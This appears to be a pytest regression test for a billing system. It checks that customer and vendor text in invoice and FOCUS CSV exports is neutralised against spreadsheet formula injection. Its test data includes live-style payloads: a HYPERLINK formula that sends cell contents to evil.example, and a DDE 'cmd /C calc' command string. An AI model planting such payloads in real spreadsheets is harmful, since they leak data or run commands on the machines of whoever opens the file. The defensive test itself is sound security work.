"""Issue #9 finding 4: CSV formula injection.

A customer name and vendor text (service name, SKU, charge description, pricing unit,
sub-account name) starting with ``=``, ``+``, ``-`` or ``@`` reached the invoice CSV and the
FOCUS CSV export as live spreadsheet formulas. Here they go through a real usage import,
rating and an invoice run; every text cell of both CSVs must come out neutralised (a leading
``'``), the amount columns untouched (a credit stays ``-5.00``), and the stored usage
(Parquet) keeps the raw vendor value.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest

from billbyte.invoicing import tasks as _invoicing  # noqa: F401  (registers the job handler)
from billbyte.jobs.service import run_pending
from billbyte.kit.csv_writer import CsvTable, frame_to_csv, neutralise
from billbyte.rating import tasks as _rating  # noqa: F401  (registers the job handler)
from billbyte.runtime import Runtime
from tests.conftest import Tenant

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CUSTOMER = '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")'
SERVICE = "+cmd|' /C calc'!A0"
SKU = "@SUM(1+1)"
DESCRIPTION = "=1+1"
UNIT = "-2+3"
SUB_ACCOUNT = "=2+5"
REGION = "@region"

# FOCUS export columns holding numbers; invoice CSV columns holding numbers.
FOCUS_NUMBERS = {"BilledCost", "ContractedCost", "EffectiveCost", "ListCost", "PricingQuantity"}
INVOICE_NUMBERS = {"quantity", "unit_price", "amount", "amount_decimal"}

USAGE_HEADER = [
    "BilledCost", "BillingAccountId", "BillingCurrency", "BillingPeriodStart",
    "BillingPeriodEnd", "ChargePeriodStart", "ChargePeriodEnd", "ChargeCategory",
    "ChargeDescription", "ProviderName", "ServiceName", "ServiceCategory", "SkuId",
    "RegionId", "RegionName", "ResourceId", "SubAccountId", "SubAccountName",
    "PricingQuantity", "PricingUnit",
]  # fmt: skip


def _usage_row(cost: str, category: str, resource: str) -> dict[str, str]:
    return {
        "BilledCost": cost,
        "BillingAccountId": "999",
        "BillingCurrency": "USD",
        "BillingPeriodStart": "2026-04-01T00:00:00Z",
        "BillingPeriodEnd": "2026-05-01T00:00:00Z",
        "ChargePeriodStart": "2026-04-03T00:00:00Z",
        "ChargePeriodEnd": "2026-04-03T01:00:00Z",
        "ChargeCategory": category,
        "ChargeDescription": DESCRIPTION,
        "ProviderName": "AWS",
        "ServiceName": SERVICE,
        "ServiceCategory": "Compute",
        "SkuId": SKU,
        "RegionId": "eu-central-1",
        "RegionName": REGION,
        "ResourceId": resource,
        "SubAccountId": "111111111111",
        "SubAccountName": SUB_ACCOUNT,
        "PricingQuantity": "10" if category == "Usage" else "",
        "PricingUnit": UNIT if category == "Usage" else "",
    }


def _ok(response: object, status: int = 201) -> dict[str, object]:
    assert response.status_code == status, response.text  # type: ignore[attr-defined]
    return dict(response.json())  # type: ignore[attr-defined]


def _hostile_world(tenant: Tenant, runtime: Runtime, tmp_path: Path) -> str:
    account = _ok(
        tenant.post("/v1/partner-accounts", json={"vendor": "aws", "display_name": "AWS"})
    )["id"]
    _ok(
        tenant.post(
            "/v1/price-plans",
            json={
                "name": "Standard",
                "is_default": True,
                "rules": [{"vendor": "aws", "adjustment": "markup_percent", "value": "10"}],
            },
        )
    )
    customer = _ok(
        tenant.post(
            "/v1/customers",
            json={"external_id": "EVIL-1", "name": CUSTOMER, "currency": "USD", "locale": "en"},
        )
    )["id"]
    _ok(
        tenant.post(
            f"/v1/customers/{customer}/vendor-accounts",
            json={"partner_account_id": account, "vendor_identifier": "111111111111"},
        )
    )
    path = tmp_path / "hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=USAGE_HEADER)
        writer.writeheader()
        writer.writerow(_usage_row("100.00", "Usage", "r-1"))
        writer.writerow(_usage_row("-5.00", "Credit", "r-2"))
    with path.open("rb") as handle:
        _ok(
            tenant.post(
                "/v1/usage/imports",
                data={"partner_account_id": str(account)},
                files={"file": (path.name, handle)},
            )
        )
    run_pending(runtime)
    return str(customer)


def _assert_text_cells_safe(rows: list[dict[str, str]], numbers: set[str]) -> None:
    for row in rows:
        for column, value in row.items():
            if column not in numbers:
                assert not value.startswith(FORMULA_STARTS), (column, value)


def test_hostile_text_is_neutralised_in_the_focus_and_invoice_csv(
    tenant: Tenant, runtime: Runtime, tmp_path: Path
) -> None:
    customer = _hostile_world(tenant, runtime, tmp_path)

    # The FOCUS CSV export.
    response = tenant.get(f"/v1/customers/{customer}/focus", params={"period": "2026-04"})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows
    _assert_text_cells_safe(rows, FOCUS_NUMBERS)
    assert {r["BillingAccountName"] for r in rows} == {"'" + CUSTOMER}
    usage = next(r for r in rows if r["ChargeCategory"] == "Usage")
    assert usage["ServiceName"] == "'" + SERVICE
    assert usage["SkuId"] == "'" + SKU
    assert usage["ChargeDescription"] == f"'{SERVICE} / Usage"  # built from the service name
    # (PricingUnit is rewritten to FOCUS unit words, so it holds no vendor text here.)
    assert usage["SubAccountName"] == "'" + SUB_ACCOUNT
    assert usage["RegionName"] == "'" + REGION
    # Numbers stay numbers: 100.00 USD + 10 %, and the credit at cost.
    assert usage["BilledCost"] == "110.00"
    credit = next(r for r in rows if r["ChargeCategory"] == "Credit")
    assert credit["BilledCost"] == "-5.00"

    # The invoice CSV.
    run = tenant.post("/v1/invoice-runs", json={"period": "2026-04", "force": True})
    assert run.status_code == 202, run.text
    run_pending(runtime)
    invoices = tenant.get("/v1/invoices", params={"status": "finalized"}).json()["data"]
    assert len(invoices) == 1
    download = tenant.get(f"/v1/invoices/{invoices[0]['id']}.csv")
    assert download.status_code == 200
    table = list(csv.DictReader(io.StringIO(download.content.decode("utf-8-sig"))))
    _assert_text_cells_safe(table, INVOICE_NUMBERS)
    assert {r["customer"] for r in table} == {"'" + CUSTOMER}
    lines = [r for r in table if r["record"] == "line"]
    assert "'" + UNIT in {r["unit"] for r in lines}, lines
    amounts = sorted(r["amount_decimal"] for r in lines)
    assert amounts == ["-5.00", "110.00"]
    assert any(r["amount"].startswith("-") for r in lines)  # "-$5.00", as formatted
    total = next(r for r in table if r["record"] == "total")
    assert total["amount_decimal"] == "105.00"

    # The stored usage keeps what the vendor sent: only CSV output is altered.
    stored = pl.concat(
        [pl.read_parquet(p) for p in sorted(Path(runtime.settings.var_dir).rglob("*.parquet"))],
        how="diagonal_relaxed",
    )
    assert set(stored["service_name"].to_list()) == {SERVICE}
    assert set(stored["sku_id"].to_list()) == {SKU}
    # And the JSON API shows the raw customer name.
    assert tenant.get(f"/v1/customers/{customer}").json()["name"] == CUSTOMER


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised_in_text_columns_only(start: str) -> None:
    table = CsvTable(["name", "amount"], numeric=["amount"])
    table.row([f"{start}1+1", "-12.50"])
    table.row(["plain", "12.50"])
    rows = list(csv.reader(io.StringIO(table.text(), newline="")))
    assert rows == [["name", "amount"], [f"'{start}1+1", "-12.50"], ["plain", "12.50"]]
    assert neutralise(f"{start}x") == f"'{start}x"

    frame = pl.DataFrame({"name": [f"{start}1+1", "ok", None], "amount": ["-12.50", "1", "2"]})
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame, numeric=["amount"]), newline="")))
    assert rows == [["name", "amount"], [f"'{start}1+1", "-12.50"], ["ok", "1"], ["", "2"]]


def test_a_numeric_column_must_exist() -> None:
    with pytest.raises(ValueError, match="amonut"):
        CsvTable(["name", "amount"], numeric=["amonut"])
